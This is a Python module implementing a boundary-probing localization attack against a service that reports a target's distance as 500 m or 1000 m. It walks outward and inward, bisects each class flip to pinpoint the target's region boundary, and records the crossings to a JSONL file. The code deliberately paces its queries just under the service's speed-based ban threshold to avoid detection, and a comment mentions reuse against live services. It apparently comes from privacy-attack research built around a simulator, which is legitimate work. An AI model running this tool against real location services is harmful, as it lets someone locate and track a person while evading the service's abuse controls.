"""Boundary-probing localization attack.

A single walker circles the target's 500 m region: pick a random direction
that stays inside, jump outward until the reported class flips to 1000 m,
bisect the flip down to the configured accuracy, then walk back in and
harvest the reverse crossing on the way. The walker keeps a virtual clock
and advances it just enough per move to stay under the service's implied
speed threshold, so a default run never gets banned.
"""

from __future__ import annotations

import json
import math
import random
from dataclasses import dataclass, field
from enum import Enum

from .geo import GeoPoint, destination, distance, is_number, midpoint
from .service import DEFAULT_SPEED_LIMIT_MPS, QueryRejected

INNER_CLASS_M = 500
OUTER_CLASS_M = 1000
PACE_MARGIN = 0.996  # walk at 99.6% of the ban threshold
PACE_SPEED_MPS = DEFAULT_SPEED_LIMIT_MPS * PACE_MARGIN
PACE_IDLE_S = 1.0  # clock tick for a zero-displacement re-query
START_PROBE_BUDGET = 48
START_PROBE_RADIUS_M = 1_000.0
DIRECTION_RETRIES = 32
DEFAULT_TRANSITIONS = 30


class TargetNotFoundError(RuntimeError):
    """No position reporting the inner class was found near the hint."""


class DirectionsExhaustedError(RuntimeError):
    """All sampled bearings left the region after one jump."""


class InconsistentOracleError(RuntimeError):
    """A probe returned a class outside the expected 500/1000 pair.

    Cannot happen against the deterministic simulator; guards reuse against
    live services where a target may move mid-bisection.
    """


class AttackBannedError(RuntimeError):
    """The service rejected a query mid-run; reports the offending step."""

    def __init__(self, step: str, cause: QueryRejected):
        super().__init__(f"banned during {step}: {cause.code}")
        self.step = step
        self.cause = cause

    def __reduce__(self):
        # The default rebuilds from the message alone, which __init__ rejects.
        return type(self), (self.step, self.cause)


class _BudgetExhausted(Exception):
    pass


class _WalkReset(Exception):
    pass


class Direction(str, Enum):
    OUT = "OUT"  # 500 -> 1000
    IN = "IN"  # 1000 -> 500


@dataclass(frozen=True)
class Transition:
    """One localized class flip.

    inside reports 500, outside reports 1000, regardless of the walk
    direction; the straddle width is at most the configured accuracy.
    """

    inside: GeoPoint
    outside: GeoPoint
    bearing: float
    direction: Direction
    queries_spent: int

    def midpoint(self) -> GeoPoint:
        return midpoint(self.inside, self.outside)


@dataclass
class ProbeConfig:
    accuracy: float = 10.0
    jump: float = 100.0
    max_queries: int = 1000
    reset_distance: float = 3000.0
    speed_limit: float = DEFAULT_SPEED_LIMIT_MPS

    def __post_init__(self) -> None:
        # Negated so that NaN fails too; an infinite jump lands nowhere.
        if not self.accuracy > 0:
            raise ValueError("accuracy must be positive")
        if not self.accuracy < self.jump < math.inf:
            raise ValueError("jump must exceed accuracy and be finite")
        # A distance of 0 is a walk that resets at its first step.
        if not self.reset_distance >= 0:
            raise ValueError("reset_distance must be a non-negative distance")


@dataclass
class TransitionSet:
    """Attack output plus query accounting.

    total_queries equals exploration_queries plus the sum of per-transition
    queries_spent; together they match the queries the service admitted.
    """

    target: str
    transitions: list[Transition] = field(default_factory=list)
    exploration_queries: int = 0
    total_queries: int = 0
    budget_exhausted: bool = False

    def __len__(self) -> int:
        return len(self.transitions)


def pace(prev_pos: GeoPoint, next_pos: GeoPoint, prev_ts: float, speed: float = PACE_SPEED_MPS) -> float:
    """Earliest next timestamp that keeps the implied speed under the ban
    threshold; a zero displacement still ticks the clock by one second."""
    d = distance(prev_pos, next_pos)
    if d == 0.0:
        return prev_ts + PACE_IDLE_S
    return prev_ts + d / speed


class ProbeSession:
    """Stateful walker: pacing, budget and per-transition query accounting.

    An emitted transition is charged every query since its outward probe or
    inward walk began; every query no transition was charged for is
    exploration. The walker's random draws come from `rng`, `Random(0)`
    when none is given.
    """

    def __init__(
        self,
        client,
        target: str,
        cfg: ProbeConfig | None = None,
        start_ts: float = 0.0,
        rng: random.Random | None = None,
    ):
        self.client = client
        self.target = target
        self.cfg = cfg or ProbeConfig()
        self.rng = rng if rng is not None else random.Random(0)
        self.queries = 0
        self._charged = 0
        self._mark = 0
        self._pos: GeoPoint | None = None
        self._ts = start_ts
        self._step = "start"
        # Bound once: query_class reads these on every query.
        self._search = client.search
        self._max_queries = self.cfg.max_queries
        self._pace_speed = self.cfg.speed_limit * PACE_MARGIN

    @property
    def exploration_queries(self) -> int:
        return self.queries - self._charged

    def query_class(self, pos: GeoPoint) -> int | None:
        """Paced, budgeted query; returns the reported class for the target
        or None when the target is not listed."""
        if self.queries >= self._max_queries:
            raise _BudgetExhausted
        if self._pos is None:
            ts = self._ts
        else:
            ts = pace(self._pos, pos, self._ts, self._pace_speed)
        try:
            entries = self._search(pos, ts)
        except QueryRejected as exc:
            raise AttackBannedError(self._step, exc) from exc
        self._pos = pos
        self._ts = ts
        self.queries += 1
        for tid, cls in entries:
            if tid == self.target:
                return cls
        return None

    # -- attack phases ------------------------------------------------------

    def find_inward_start(self, hint: GeoPoint) -> GeoPoint:
        """Find a position whose reported class is 500, probing a 1 km disc
        around the hint after trying the hint itself."""
        self._step = "find-start"
        if self.query_class(hint) == INNER_CLASS_M:
            return hint
        for _ in range(START_PROBE_BUDGET - 1):
            r = START_PROBE_RADIUS_M * math.sqrt(self.rng.random())
            cand = destination(hint, self.rng.uniform(0.0, 360.0), r)
            if self.query_class(cand) == INNER_CLASS_M:
                return cand
        raise TargetNotFoundError(
            f"no inner-class position within {START_PROBE_BUDGET} probes of the hint"
        )

    def choose_direction(self, pos: GeoPoint) -> tuple[float, GeoPoint]:
        """Draw random bearings until one jump stays inside the region.

        Returns the accepted bearing and the already-queried landing point.
        """
        self._step = "choose-direction"
        for _ in range(DIRECTION_RETRIES):
            bearing = self.rng.uniform(0.0, 360.0)
            cand = destination(pos, bearing, self.cfg.jump)
            if self.query_class(cand) == INNER_CLASS_M:
                return bearing, cand
        raise DirectionsExhaustedError(f"{DIRECTION_RETRIES} bearings rejected from {pos}")

    def probe_outward(self, anchor: GeoPoint, start: GeoPoint, bearing: float) -> tuple[GeoPoint, GeoPoint]:
        """Jump along the bearing until the class flips to 1000; returns the
        last-inside/first-outside pair. Resets when the walk strays farther
        than reset_distance from the anchor."""
        self._step = "probe-outward"
        self._mark = self.queries
        jump, reset = self.cfg.jump, self.cfg.reset_distance
        # After k jumps the walk lies at most distance(anchor, start) + k jump
        # from the anchor (triangle inequality); destination and distance
        # round by about 1e-7 m per jump, far inside the one-jump margin, so
        # while the bound stays a jump short of reset_distance the exact
        # test below could not fire.
        bound = distance(anchor, start)
        cur = start
        while True:
            nxt = destination(cur, bearing, jump)
            bound += jump
            if bound > reset - jump and distance(anchor, nxt) > reset:
                raise _WalkReset
            cls = self.query_class(nxt)
            if cls == OUTER_CLASS_M:
                return cur, nxt
            if cls == INNER_CLASS_M:
                cur = nxt
                continue
            raise InconsistentOracleError(f"class {cls!r} while probing outward at {nxt}")

    def bisect_boundary(
        self,
        inside: GeoPoint,
        outside: GeoPoint,
        direction: Direction = Direction.OUT,
        bearing: float = 0.0,
    ) -> Transition:
        """Binary-search the straddle down to cfg.accuracy and emit the
        transition, charging it every query since the outward probe or
        inward walk that led here began."""
        self._step = "bisect"
        accuracy = self.cfg.accuracy
        # Each step about halves the straddle: the haversine of the half
        # offset differs from half the parent's by far less than 2x (under
        # about 5 % even for a 50 km straddle at 84.9 deg), so while the
        # halved estimate exceeds twice the accuracy, so does the straddle
        # the accuracy.
        span = distance(inside, outside)
        while span > accuracy:
            mid = midpoint(inside, outside)
            cls = self.query_class(mid)
            if cls == INNER_CLASS_M:
                inside = mid
            elif cls == OUTER_CLASS_M:
                outside = mid
            else:
                raise InconsistentOracleError(f"class {cls!r} while bisecting at {mid}")
            span = span / 2.0 if span > 4.0 * accuracy else distance(inside, outside)
        spent = self.queries - self._mark
        self._charged += spent
        return Transition(
            inside=inside,
            outside=outside,
            bearing=bearing,
            direction=direction,
            queries_spent=spent,
        )

    def walk_inward(self, start_outside: GeoPoint, bearing: float) -> Transition:
        """Walk back toward the region until the class flips to 500, then
        bisect and emit the IN transition."""
        self._step = "walk-inward"
        self._mark = self.queries
        cur = start_outside
        walked = 0.0
        while True:
            nxt = destination(cur, bearing, self.cfg.jump)
            walked += self.cfg.jump
            if walked > self.cfg.reset_distance:
                raise _WalkReset
            cls = self.query_class(nxt)
            if cls == INNER_CLASS_M:
                return self.bisect_boundary(nxt, cur, direction=Direction.IN, bearing=bearing)
            if cls == OUTER_CLASS_M:
                cur = nxt
                continue
            raise InconsistentOracleError(f"class {cls!r} while walking inward at {nxt}")


def collect_transitions(
    client,
    target: str,
    hint: GeoPoint,
    cfg: ProbeConfig | None = None,
    n_transitions: int = DEFAULT_TRANSITIONS,
    start_ts: float = 0.0,
    rng: random.Random | None = None,
) -> TransitionSet:
    """Run the full attack loop until the requested transition count is
    reached or the query budget runs out (partial set, flagged)."""
    cfg = cfg or ProbeConfig()
    sess = ProbeSession(client, target, cfg, start_ts=start_ts, rng=rng)
    collected: list[Transition] = []
    exhausted = False
    try:
        pos = sess.find_inward_start(hint)
        while len(collected) < n_transitions:
            try:
                bearing, cand = sess.choose_direction(pos)
            except DirectionsExhaustedError:
                pos = sess.find_inward_start(pos)
                continue
            try:
                inside, outside = sess.probe_outward(pos, cand, bearing)
                t_out = sess.bisect_boundary(inside, outside, direction=Direction.OUT, bearing=bearing)
            except _WalkReset:
                continue  # pos is still a known inner-class position
            collected.append(t_out)
            if len(collected) >= n_transitions:
                break
            back = (bearing + 180.0) % 360.0
            try:
                t_in = sess.walk_inward(t_out.outside, back)
            except _WalkReset:
                pos = t_out.inside
                continue
            collected.append(t_in)
            pos = t_in.inside
    except _BudgetExhausted:
        exhausted = True
    return TransitionSet(
        target=target,
        transitions=collected,
        exploration_queries=sess.exploration_queries,
        total_queries=sess.queries,
        budget_exhausted=exhausted,
    )


# -- transitions file format ---------------------------------------------


def transition_record(target: str, t: Transition) -> dict:
    return {
        "target": target,
        "inside": [t.inside.lat, t.inside.lon],
        "outside": [t.outside.lat, t.outside.lon],
        "bearing": t.bearing,
        "dir": t.direction.value,
        "queries": t.queries_spent,
    }


def write_transitions(path: str, tset: TransitionSet, config: dict | None = None) -> None:
    """JSONL: a meta record first (accounting plus config echo), then one
    record per transition."""
    meta = {
        "type": "meta",
        "target": tset.target,
        "total_queries": tset.total_queries,
        "exploration_queries": tset.exploration_queries,
        "budget_exhausted": tset.budget_exhausted,
        "config": config or {},
    }
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(json.dumps(meta, sort_keys=True, separators=(",", ":")) + "\n")
        for t in tset.transitions:
            rec = transition_record(tset.target, t)
            fh.write(json.dumps(rec, sort_keys=True, separators=(",", ":")) + "\n")


def _read_point(value, where: str) -> GeoPoint:
    if not (isinstance(value, list) and len(value) == 2 and all(is_number(v) for v in value)):
        raise ValueError(f"{where}: expected a [lat, lon] pair of numbers, got {value!r}")
    try:
        return GeoPoint(value[0], value[1])
    except ValueError as exc:
        raise ValueError(f"{where}: {exc}") from exc


def _field(rec: dict, key: str, where: str):
    try:
        return rec[key]
    except KeyError:
        raise ValueError(f"{where}: missing field {key!r}") from None


def read_transitions(path: str) -> tuple[TransitionSet, dict]:
    """Inverse of write_transitions; returns the set and the meta record.
    A malformed line raises a ValueError that names `path:line`; a meta
    record may leave out its counts (0) and `budget_exhausted` (False)."""
    meta: dict = {}
    transitions: list[Transition] = []
    target = None
    with open(path, encoding="utf-8") as fh:
        for line_no, line in enumerate(fh, start=1):
            line = line.strip()
            if not line:
                continue
            where = f"{path}:{line_no}"
            try:
                rec = json.loads(line)
            except ValueError as exc:  # a JSONDecodeError, or an int past the digit limit
                raise ValueError(f"{where}: invalid JSON: {getattr(exc, 'msg', exc)}") from exc
            if not isinstance(rec, dict):
                raise ValueError(f"{where}: expected a JSON object, got {type(rec).__name__}")
            if rec.get("type") == "meta":
                meta = rec
                target = rec.get("target")
                for key in ("total_queries", "exploration_queries"):
                    count = rec.get(key, 0)
                    if type(count) is not int or count < 0:  # a bool is an int to isinstance
                        raise ValueError(f"{where}: {key} must be a non-negative int, got {count!r}")
                if not isinstance(rec.get("budget_exhausted", False), bool):
                    raise ValueError(f"{where}: budget_exhausted must be a bool, got {rec['budget_exhausted']!r}")
                continue
            target = target or _field(rec, "target", where)
            inside = _read_point(_field(rec, "inside", where), f"{where}: inside")
            outside = _read_point(_field(rec, "outside", where), f"{where}: outside")
            bearing = _field(rec, "bearing", where)
            if not is_number(bearing) or not math.isfinite(bearing):
                raise ValueError(f"{where}: bearing must be a finite number, got {bearing!r}")
            dir_value = _field(rec, "dir", where)
            try:
                direction = Direction(dir_value)
            except ValueError as exc:
                raise ValueError(f"{where}: dir: {exc}") from exc
            queries = _field(rec, "queries", where)
            if type(queries) is not int or queries < 0:
                raise ValueError(f"{where}: queries must be a non-negative int, got {queries!r}")
            transitions.append(Transition(inside, outside, bearing, direction, queries))
    if target is None:
        raise ValueError(f"{path}: no transition records")
    return (
        TransitionSet(
            target=target,
            transitions=transitions,
            exploration_queries=meta.get("exploration_queries", 0),
            total_queries=meta.get("total_queries", 0),
            budget_exhausted=meta.get("budget_exhausted", False),
        ),
        meta,
    )
